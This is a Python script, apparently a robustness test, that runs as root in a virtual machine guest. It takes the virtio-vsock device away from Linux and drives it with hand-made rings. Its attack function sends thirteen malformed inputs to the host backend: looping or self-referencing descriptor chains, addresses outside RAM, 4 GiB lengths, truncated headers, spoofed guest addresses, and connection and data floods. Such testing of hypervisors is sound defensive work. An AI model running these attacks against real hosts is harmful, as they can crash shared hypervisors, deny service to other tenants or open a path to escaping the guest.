"""Runs as root in the guest: takes the vsock device from Linux and drives it, wrongly.

    python3 driver.py ATTACK

The device is reset and set up anew with rings in memory of this process (virtio 1.2, sections 3.1.1, 4.1.4,
2.7 and 5.10), so every descriptor, index and header that the host reads is what the attack wants.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
import sys
import time

DEVICE_ID = 0x1053
HUGE = 2 << 20
SIZE = 64
RING = 0x10000
BUFFERS = 0x100000
HEADER = struct.Struct("<QQIIIHHIII")
"""src_cid, dst_cid, src_port, dst_port, len, type, op, flags, buf_alloc, fwd_cnt"""
REQUEST, RST, RW, CREDIT_UPDATE = 1, 3, 5, 6


class Device:
    def __init__(self) -> None:
        self.folder = self._find()
        driver = os.path.realpath(f"{self.folder}/driver")
        with open(f"{driver}/unbind", "w") as file:
            file.write(os.path.basename(self._virtio() or ""))
        with open(f"{self.folder}/enable", "w") as file:
            file.write("1")
        self.memory, self.physical = self._huge_page()
        self.common, self.notify, self.multiplier = self._map()

    def _find(self) -> str:
        base = "/sys/bus/pci/devices"
        for name in os.listdir(base):
            with open(f"{base}/{name}/device") as file:
                if int(file.read(), 16) == DEVICE_ID:
                    return f"{base}/{name}"
        raise SystemExit("no vsock device")

    def _virtio(self) -> str:
        # The PCI driver is unbound, and with it the vsock driver on the virtio bus.
        return os.path.basename(self.folder)

    def _huge_page(self) -> tuple[mmap.mmap, int]:
        with open("/proc/sys/vm/nr_hugepages", "w") as file:
            file.write("2")
        memory = mmap.mmap(-1, HUGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)
        memory[:] = bytes(HUGE)
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        with open("/proc/self/pagemap", "rb") as file:
            file.seek(address // 4096 * 8)
            (entry,) = struct.unpack("<Q", file.read(8))
        return memory, (entry & ((1 << 55) - 1)) * 4096

    def _map(self) -> tuple[memoryview, memoryview, int]:
        with open(f"{self.folder}/config", "rb") as file:
            config = file.read(256)
        with open(f"{self.folder}/config", "r+b", buffering=0) as file:
            file.seek(4)
            file.write(struct.pack("<H", struct.unpack_from("<H", config, 4)[0] | 6))
        found = {}
        at = config[0x34]
        while at:
            kind, following, _, what, bar = struct.unpack_from("<5B", config, at)
            if kind == 9:
                offset, length = struct.unpack_from("<II", config, at + 8)
                if what == 2:
                    multiplier = struct.unpack_from("<I", config, at + 16)[0]
                found.setdefault(what, (bar, offset, length))
            at = following
        views = []
        for what in (1, 2):
            bar, offset, length = found[what]
            fd = os.open(f"{self.folder}/resource{bar}", os.O_RDWR | os.O_SYNC)
            mapped = mmap.mmap(fd, os.fstat(fd).st_size)
            views.append(memoryview(mapped)[offset : offset + length])
        return views[0], views[1], multiplier

    def put(self, offset: int, form: str, value: int) -> None:
        kind = {"B": ctypes.c_uint8, "H": ctypes.c_uint16, "I": ctypes.c_uint32}[form]
        kind.from_buffer(self.common, offset).value = value

    def set_up(self) -> None:
        self.put(20, "B", 0)
        for status in (1, 3):
            self.put(20, "B", status)
        for select, features in ((0, 0), (1, 1)):
            self.put(8, "I", select)
            self.put(12, "I", features)
        self.put(20, "B", 11)
        for queue in range(3):
            self.put(22, "H", queue)
            self.put(24, "H", SIZE)
            base = self.physical + queue * RING
            for offset, place in ((32, base), (40, base + 0x4000), (48, base + 0x8000)):
                self.put(offset, "I", place & 0xFFFFFFFF)
                self.put(offset + 4, "I", place >> 32)
            self.put(28, "H", 1)
        self.put(20, "B", 15)

    def describe(
        self, queue: int, index: int, address: int, length: int, flags: int = 0, after: int = 0
    ) -> None:
        struct.pack_into("<QIHH", self.memory, queue * RING + index * 16, address, length, flags, after)

    def offer(self, queue: int, heads: list[int], index: int | None = None) -> None:
        ring = queue * RING + 0x4000
        (now,) = struct.unpack_from("<H", self.memory, ring + 2)
        for number, head in enumerate(heads):
            struct.pack_into("<H", self.memory, ring + 4 + (now + number) % SIZE * 2, head)
        struct.pack_into("<H", self.memory, ring + 2, (now + len(heads) if index is None else index) & 0xFFFF)
        self.put(22, "H", queue)
        offset = struct.unpack_from("<H", self.common, 30)[0] * self.multiplier
        ctypes.c_uint16.from_buffer(self.notify, offset).value = queue

    def send(self, slot: int, op: int, payload: bytes = b"", port: int = 1024, **changes: int) -> None:
        fields = {
            "src": 3,
            "dst": 2,
            "src_port": 5000 + slot,
            "dst_port": port,
            "len": len(payload),
            "type": 1,
            "op": op,
            "flags": 0,
            "buf_alloc": 1 << 20,
            "fwd_cnt": 0,
        } | changes
        place = BUFFERS + slot * 0x2000
        packet = HEADER.pack(*fields.values()) + payload
        self.memory[place : place + len(packet)] = packet
        self.describe(1, slot, self.physical + place, len(packet))
        self.offer(1, [slot])


def attack(device: Device, name: str) -> None:
    if name == "an index that jumps":
        device.offer(1, [], index=60000)
    elif name == "a chain that loops":
        device.describe(1, 0, device.physical + BUFFERS, 16, flags=1, after=0)
        device.offer(1, [0])
    elif name == "an address outside of RAM":
        device.describe(1, 0, 1 << 50, 64)
        device.offer(1, [0])
    elif name == "a length of 4 GiB":
        device.describe(1, 0, device.physical + BUFFERS, 0xFFFFFFFF)
        device.offer(1, [0])
    elif name == "a head that is none":
        device.offer(1, [60000])
    elif name == "an indirect table in itself":
        device.describe(1, 0, device.physical + RING, 16, flags=4)
        device.offer(1, [0])
    elif name == "rings outside of RAM":
        device.physical = 1 << 50
        device.set_up()
        device.offer(1, [0])
    elif name == "a header that is cut off":
        device.describe(1, 0, device.physical + BUFFERS, 10)
        device.offer(1, [0])
    elif name == "a packet longer than its buffer":
        device.send(0, RW, b"x" * 100, len=1 << 30)
    elif name == "packets of all kinds for nobody":
        for op in range(64):
            device.send(op, op, b"", type=op % 3)
            time.sleep(0.002)
    elif name == "another guest's address":
        device.send(0, REQUEST, src=99)
        device.send(1, REQUEST, dst=99)
    elif name == "a flood of connections":
        for number in range(20_000):
            device.send(number % SIZE, REQUEST, port=number % 65536)
    elif name == "data without credit":
        for number in range(20_000):
            device.send(number % SIZE, RW, b"x" * 4096, port=1024)
    else:
        raise SystemExit(f"no attack {name!r}")


def main() -> None:
    device = Device()
    device.set_up()
    for index in range(SIZE):
        device.describe(0, index, device.physical + BUFFERS + 0x80000 + index * 0x1000, 0x1000, flags=2)
    device.offer(0, list(range(SIZE)))
    print("driven", flush=True)
    attack(device, sys.argv[1])
    time.sleep(5)


if __name__ == "__main__":
    main()
